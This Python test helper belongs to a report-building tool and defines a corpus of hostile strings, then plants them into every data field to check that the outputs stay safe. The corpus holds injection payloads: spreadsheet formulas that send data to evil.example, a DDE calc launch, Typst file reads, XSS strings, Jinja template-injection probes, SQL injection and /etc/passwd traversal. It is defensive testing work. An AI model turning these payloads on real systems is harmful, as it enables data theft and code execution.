"""The hostile-strings corpus, and a generated data set that carries it into every output.

For reuse by any test that must show that data cannot become a formula, markup, code or a path
(the report's five outputs here; the web workbench's pages later):

    from hostile import CORPUS, plant
    for label, s in CORPUS: ...                      # (label, string), at least 40
    hs = plant(tmp_path)                             # every string in every data field, ingested
    result = build_report(hs.settings, hs.month)     # a report over them (all blocks placed)
    hs.shown[field]                                  # per field: the strings as the warehouse holds them

``plant`` writes one Parquet file per dataset (Parquet carries any string, NUL included), ingests
them through the ordinary ingest, and writes the month's Markdown placing every block. Each string
goes into each field that reaches an output: traffic product, company and category; app and
developer; stock name; news title, body and source; announcement company and text; capex company
(through the house's company list, which names what the capex section shows). The product registry
holds them too (``REGISTRY_FIELDS``): its product names are the traffic's, and the traffic rows of
registered products carry no company or category, so the report's come from the registry; its
aliases, notes and listed companies' names reach ``aimonthly products``. The house taxonomy's
categories are the corpus (no separators), so the category mix shows each string as it is.
``plant(tmp, strings=CLEAN)`` gives the same data set with harmless strings, for comparisons
(e.g. a page's elements and attributes must be the same for both).

What an output may show of a string: ``aimonthly.core.safe.printable(s.strip())`` (ingest trims; the
writers remove the characters in ``aimonthly.core.safe.REMOVED``); news titles and bodies also lose
HTML tags (``aimonthly.analytics.news._plain``). Strings that name ``SENTINEL`` try to read a file:
put a file of that name holding ``SENTINEL_CONTENT`` where the code under test could read it, and
assert that the content never appears. tests/test_hostile_outputs.py does all of this for the report.
"""

from __future__ import annotations

import datetime as dt
import textwrap
from dataclasses import dataclass, field
from pathlib import Path

import pyarrow as pa
import pyarrow.parquet as pq

SENTINEL = "SENTINEL-5f3a9c-the-file-a-hostile-string-tried-to-read"  # the name; strings name it, as text
SENTINEL_CONTENT = "sentinel content 7d2e91: a file was read"  # what such a file holds: must never be shown
LONG_NAME = ("超长名称LongName" * 834)[:10_000]  # 10,000 characters, CJK and Latin

CORPUS: list[tuple[str, str]] = [
    # spreadsheet formulas: every prefix a spreadsheet reads as the start of a formula
    ("formula hyperlink", '=HYPERLINK("http://evil.example/x?leak="&A1,"click")'),
    ("formula arithmetic", "=1+2"),
    ("formula plus", "+3+4"),
    ("formula minus", "-5+6"),
    ("formula at", "@SUM(A1:A9)"),
    ("formula tab", "\t=7*8"),  # ingest strips the tab: the warehouse holds "=7*8"
    ("formula CR", "\r=9*9"),  # likewise "=9*9"
    ("formula DDE", "=cmd|' /C calc'!A0"),
    ("formula importxml", '=IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")'),
    # Typst markup and code
    ("typst read", f'#read("{SENTINEL}.txt")'),
    ("typst import", f'#import "{SENTINEL}.typ": *'),
    ("typst include", f'#include "{SENTINEL}.typ"'),
    ("typst string breakout", f'"); #read("{SENTINEL}.txt"); ("'),
    ("typst content breakout", "] #text(fill: red)[PWNED"),
    ("typst math", r"$x^2 + \sqrt{y}$ and $\frac{1}{0}$"),
    ("math that does not parse", r"$\undefinedcommand{x}$"),  # matplotlib's mathtext raised on it
    ("typst ref", "see @fig-1 and @sec-1"),
    ("typst label", "<evil-label> text"),
    ("typst set rule", "#set page(width: 1cm) #set text(size: 0pt)"),
    ("typst markup", "*bold* _emph_ `raw` = heading \\ // comment /* open"),
    # HTML and SVG
    ("html script", "<script>alert(1)</script>"),
    ("html img onerror", "<img src=x onerror=alert(1)>"),
    ("svg onload", '<svg onload=alert(1)><circle r="9"/></svg>'),
    ("html attribute breakout", '"><script>alert(document.domain)</script>'),
    ("html single-quote breakout", "' onmouseover='alert(1)' x='"),
    ("html table breakout", '</td></tr></table><iframe src="javascript:alert(1)"></iframe>'),
    ("html comment and style", "<!-- x --><style>body{display:none}</style>"),
    ("html mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("html entity script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("javascript url", "javascript:alert(1)"),
    ("data url", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("html link", '<a href="javascript:alert(1)">click</a>'),
    # Markdown and Jinja (and the month file's own block syntax)
    ("jinja expression", "{{ 7*7 }}"),
    ("jinja statement", "{% for x in range(10**9) %}x{% endfor %}"),
    ("jinja internals", "{{ ''.__class__.__mro__[1].__subclasses__() }}"),
    ("block directive", "{{ traffic.global.top_visits }}"),
    ("markdown link", "[click](javascript:alert(1))"),
    ("markdown image", "![x](http://evil.example/x.png)"),
    ("markdown heading", "# 投资逻辑 {.cover}"),
    # XML and control characters
    ("word xml breakout", "</w:t></w:r><w:r><w:t>injected"),
    ("xml cdata and entities", "]]><x>&amp; &#0; &xxe; <![CDATA[x]]>"),
    ("NUL", "A\x00B"),
    ("C0 controls", "C\x01\x02\x07\x08\x0b\x0cD"),
    ("ANSI escape", "\x1b[31mred\x1b[0m \x1b]0;title\x07"),
    ("C1 controls", "E\x85\x9bF"),
    ("right-to-left override", "invoice\u202egnp.exe"),
    ("bidi isolates", "G\u2066H\u2069I\u202aJ\u202cK"),
    ("zero-width joiners", "Zero\u200bWidth\u200dJoin\u200cer\ufeff"),
    ("noncharacters", "L\ufffeM\uffffN"),
    ("line separators", "O\u2028P\u2029Q"),
    # size, scripts, paths, other interpreters
    ("10,000-character name", LONG_NAME),
    ("emoji", "🤖🚀 👨\u200d👩\u200d👧\u200d👦 🏳\ufe0f\u200d🌈"),
    ("rare CJK", "𠀀𪚥𰻞𱁬 龘靐齉"),
    ("combining marks", "Z\u0337\u0322a\u0336l\u0335g\u0338o\u0334"),
    ("path traversal", "../../../../etc/passwd"),
    ("windows path", "C:\\Windows\\win.ini \\\\server\\share"),
    ("file url", "file:///etc/passwd"),
    ("sql", "'; DROP TABLE traffic; --"),
    ("python format", "{0.__class__} %s %n {}"),
    ("rich markup", "[bold red]x[/] [link=javascript:alert(1)]y[/link] [/]"),
    ("sheet reference", "'目录'!A1 Sheet[*?]/\\:"),
]
assert len(CORPUS) >= 40 and len({s for _, s in CORPUS}) == len(CORPUS)

# The same number of harmless strings: the clean build that the hostile one is compared with.
CLEAN: list[tuple[str, str]] = [(f"clean {i}", f"名称{i:02d} Name{i:02d}") for i in range(len(CORPUS))]

FIELDS = (
    "product",
    "company",
    "category",
    "app",
    "developer",
    "stock name",
    "news title",
    "news body",
    "news source",
    "announcement company",
    "announcement text",
    "capex company",
)
# The registry's fields (relation is a closed choice, refused at ingest unless one of five words).
REGISTRY_FIELDS = (
    "registry product",
    "registry aliases",
    "registry company",
    "registry category",
    "registry note",
    "registry stock name",
)
RELATIONS = ("母公司", "投资方", "合作方", "供应商", "其他")

MONTH, DATA_DATE, REPORT_DATE = "2023-06", dt.date(2023, 7, 9), dt.date(2023, 7, 12)

CONTENT = """---
title: 数据安全测试月报
sector: 测试行业研究
rating: 增持
rating_action: 维持评级
report_type: 行业月报
date: {report_date}
data_date: {data_date}
analysts:
  - {{name: 测试员, licence: S0000000000009, email: t@example.com}}
---

# 投资逻辑 {{.cover}}

测试用的投资逻辑。

{{{{ capex.summary }}}}

# 流量

{{{{ traffic.global.overview }}}}

{{{{ traffic.global.top_visits }}}}

{{{{ traffic.global.growth }}}}

{{{{ traffic.global.top_growth }}}}

{{{{ traffic.global.categories }}}}

{{{{ traffic.global.category_share }}}}

{{{{ traffic.global.duration }}}}

{{{{ traffic.global.top_duration }}}}

{{{{ app_store.overview }}}}

{{{{ app_store.top_apps }}}}

{{{{ app_store.movers }}}}

{{{{ app_store.new_apps }}}}

{{{{ app_store.rising_apps }}}}

# 新闻与行情

## 海外

{{{{ news.overseas }}}}

## 行情

{{{{ market.computer.text }}}}

{{{{ market.computer.cumulative }}}}

{{{{ market.computer.movers }}}}

{{{{ market.computer.note }}}}

{{{{ market.media.text }}}}

{{{{ market.media.movers }}}}

## 国内

{{{{ news.domestic }}}}

{{{{ announcements.table }}}}

# 资本开支

{{{{ capex.text }}}}

{{{{ capex.chart }}}}
"""


@dataclass(frozen=True)
class HostileSet:
    """A planted data set: ``settings`` point at its warehouse, content and output folders."""

    root: Path
    strings: list[str]
    settings: object  # aimonthly.config.Settings, with the house overrides applied
    month: str = MONTH
    shown: dict[str, list[str]] = field(default_factory=dict)  # field -> the strings as ingested

    @property
    def warehouse(self) -> Path:
        return self.root / "w.duckdb"


def _bdays(start: dt.date, end: dt.date) -> list[dt.date]:
    out, d = [], start
    while d <= end:
        if d.weekday() < 5:
            out.append(d)
        d += dt.timedelta(days=1)
    return out


def registered(strings: list[str]) -> list[int]:
    """The strings that are registry products: those whose normalised name no other string shares
    (two products with one name are refused by the registry, rightly)."""
    from collections import Counter

    from aimonthly.core.product_names import normalise_name

    keys = [normalise_name(x.strip()) for x in strings]
    count = Counter(keys)
    return [i for i, k in enumerate(keys) if k is not None and count[k] == 1]


def tables(strings: list[str]) -> dict[str, pa.Table]:
    """One table per dataset, every string in every text field that reaches the report.

    Row i carries string i in one field and its neighbours in the others, so that no two fields of
    a row hold the same string (a check that finds a string cannot be satisfied by the wrong field)."""
    n = len(strings)
    s = lambda i: strings[i % n]  # noqa: E731
    prev, cur = "2023-05", MONTH
    known = set(registered(strings))  # their company and category come from the registry
    traffic = [
        {
            "month": m,
            "list": lst,
            "product": s(i),
            "company": None if i in known else s(i + 1),
            "category": None if i in known else s(i + 2),
            "visits": (n + 10 - i) * 1_000_000 + (i * 7919 if m == cur else 0),
            "avg_visit_duration": 60.0 + i,
            "synthetic": True,
        }
        for m in (prev, cur)
        for lst in ("global", "domestic")
        for i in range(n)
    ]
    products = [
        {
            "product": s(i).strip(),
            "aliases": f"{s(i + 7).strip()}·旧名",
            "company": s(i + 1).strip(),
            "category": s(i + 2).strip(),
            "region": ("domestic", "overseas")[i % 2],
            "note": s(i + 10),
            "synthetic": True,
        }
        for i in sorted(known)
    ]
    stocks_of = [
        {
            "product": s(i).strip(),
            "code": f"{300000 + i:06d}.SZ",
            "name": s(i + 11),
            "relation": RELATIONS[i % len(RELATIONS)],
            "weight": 1.0,
            "synthetic": True,
        }
        for i in sorted(known)
    ]
    days = [DATA_DATE - dt.timedelta(days=k) for k in range(30, -1, -1)]  # baseline .. data date
    apps = [
        {
            "date": days[0],
            "keyword": "ai应用",
            "app": f"基线应用{k}",
            "developer": "基线公司",
            "rank": k + 1,
            "synthetic": True,
        }
        for k in range(5)
    ]
    apps += [
        {"date": d, "keyword": "ai应用", "app": s(i), "developer": s(i + 3), "rank": i + 1, "synthetic": True}
        for d in days[1:]
        for i in range(n)
    ]
    trading = _bdays(dt.date(2023, 1, 2), DATA_DATE)
    idx = [
        {"date": d, "code": code, "name": name, "close": 1000.0 + 3 * k + j * 50, "synthetic": True}
        for j, (code, name) in enumerate(
            (("000300.SH", "沪深300"), ("801750.SI", "计算机"), ("801760.SI", "传媒"), ("931441.CSI", "AI 50"))
        )
        for k, d in enumerate(trading)
    ]
    stocks = [
        {
            "date": d,
            "code": f"{300000 + j * 100 + i:06d}.SZ",
            "name": s(i + j),
            "close": round((10.0 + i) * (1 + 0.001 * (i - n / 2)) ** k, 4),
            "industry": ind,
            "synthetic": True,
        }
        for j, ind in enumerate(("计算机", "传媒"))
        for i in range(n)
        for k, d in enumerate(trading)
    ]
    news = [
        {
            "date": dt.date(2023, 6, 1) + dt.timedelta(days=i % 30),
            "region": ("overseas", "domestic")[i % 2],
            "title": s(i),
            "body": s(i + 4),
            "source": s(i + 5),
            "url": None,
            "synthetic": True,
        }
        for r in range(2)
        for i in range(r, n + r)
    ]  # each string once as an overseas, once as a domestic title
    news = list({(x["date"], x["source"], x["title"]): x for x in news}.values())
    ann = [
        {
            "date": dt.date(2023, 6, 1) + dt.timedelta(days=i % 30),
            "code": f"{600000 + i:06d}",
            "company": s(i + 6),
            "content": s(i + 7),
            "synthetic": True,
        }
        for i in range(n)
    ]
    capex = [
        {"company": s(i), "quarter": q, "capex": (i + 1) * 1e8 + k * 1e7, "synthetic": True}
        for i in range(n)
        for k, q in enumerate(("2022Q3", "2022Q4", "2023Q1", "2023Q2"))
    ]
    return {
        "traffic": pa.Table.from_pylist(traffic),
        "app_ranks": pa.Table.from_pylist(apps),
        "index_prices": pa.Table.from_pylist(idx),
        "stock_prices": pa.Table.from_pylist(stocks),
        "news": pa.Table.from_pylist(news),
        "announcements": pa.Table.from_pylist(ann),
        "capex": pa.Table.from_pylist(capex),
        "products": pa.Table.from_pylist(products),
        "product_stocks": pa.Table.from_pylist(stocks_of),
    }


def house_overrides(strings: list[str]) -> dict:
    """Room for every string: each list, ranking and digest long enough to print them all."""
    n = len(strings)
    return {
        "app_store": {"top_rank": n + 1, "table_rows": n},
        "market": {"chart_base": "2023-01-01", "top_n": n},
        "news": {
            "count": {"overseas": n, "domestic": n},
            "summary_chars": 20_000,
            "grouping": {"threshold": 1.0, "days": 0, "min_shared": 99},
        },  # no two corpus items reach 1.0: none is one event
        "announcements": {"rows": n},
        "capex": {"companies": [x.strip() for x in strings], "names": {}},
        # every string a house category of both lists, taken whole: the category mix shows each as it is
        "taxonomy": {
            "separators": [],
            "rules": [],
            "categories": {"global": [x.strip() for x in strings], "domestic": [x.strip() for x in strings]},
        },
    }


def plant(root: Path, strings: list[tuple[str, str]] | list[str] | None = None) -> HostileSet:
    """Write, ingest and configure the data set under ``root`` (a fresh folder)."""
    from aimonthly.config import load_settings
    from aimonthly.core.house import Layer, house_from_layers
    from aimonthly.ingest import ingest_file
    from aimonthly.warehouse import Warehouse

    given = CORPUS if strings is None else strings
    values = [x[1] if isinstance(x, tuple) else x for x in given]
    root.mkdir(parents=True, exist_ok=True)
    with Warehouse.open(root / "w.duckdb") as wh:
        for name, table in tables(values).items():
            pq.write_table(table, root / f"{name}.parquet")
            ingest_file(wh, name, root / f"{name}.parquet", today=REPORT_DATE)
    (root / "content").mkdir(exist_ok=True)
    (root / "content" / f"{MONTH}.md").write_text(
        textwrap.dedent(CONTENT).format(report_date=REPORT_DATE, data_date=DATA_DATE), encoding="utf-8"
    )
    n = len(values)
    base = load_settings(
        {
            "warehouse": str(root / "w.duckdb"),
            "content_dir": str(root / "content"),
            "output_dir": str(root / "out"),
            "top_n": n,
            "top_pool": n,
        },
        env={},
    )
    house = house_from_layers([Layer("tests/hostile.py house_overrides", "house", house_overrides(values))])
    settings = base.model_copy(update={"house": house})
    stored = [v.strip() for v in values]  # what ingest keeps of a text cell: the value, trimmed
    shown = {f: stored for f in FIELDS}
    known = registered(values)
    shown.update({f: [stored[(i + k) % n] for i in known] for f, k in zip(REGISTRY_FIELDS, (0, 7, 1, 2, 10, 11))})
    return HostileSet(root, values, settings, shown=shown)
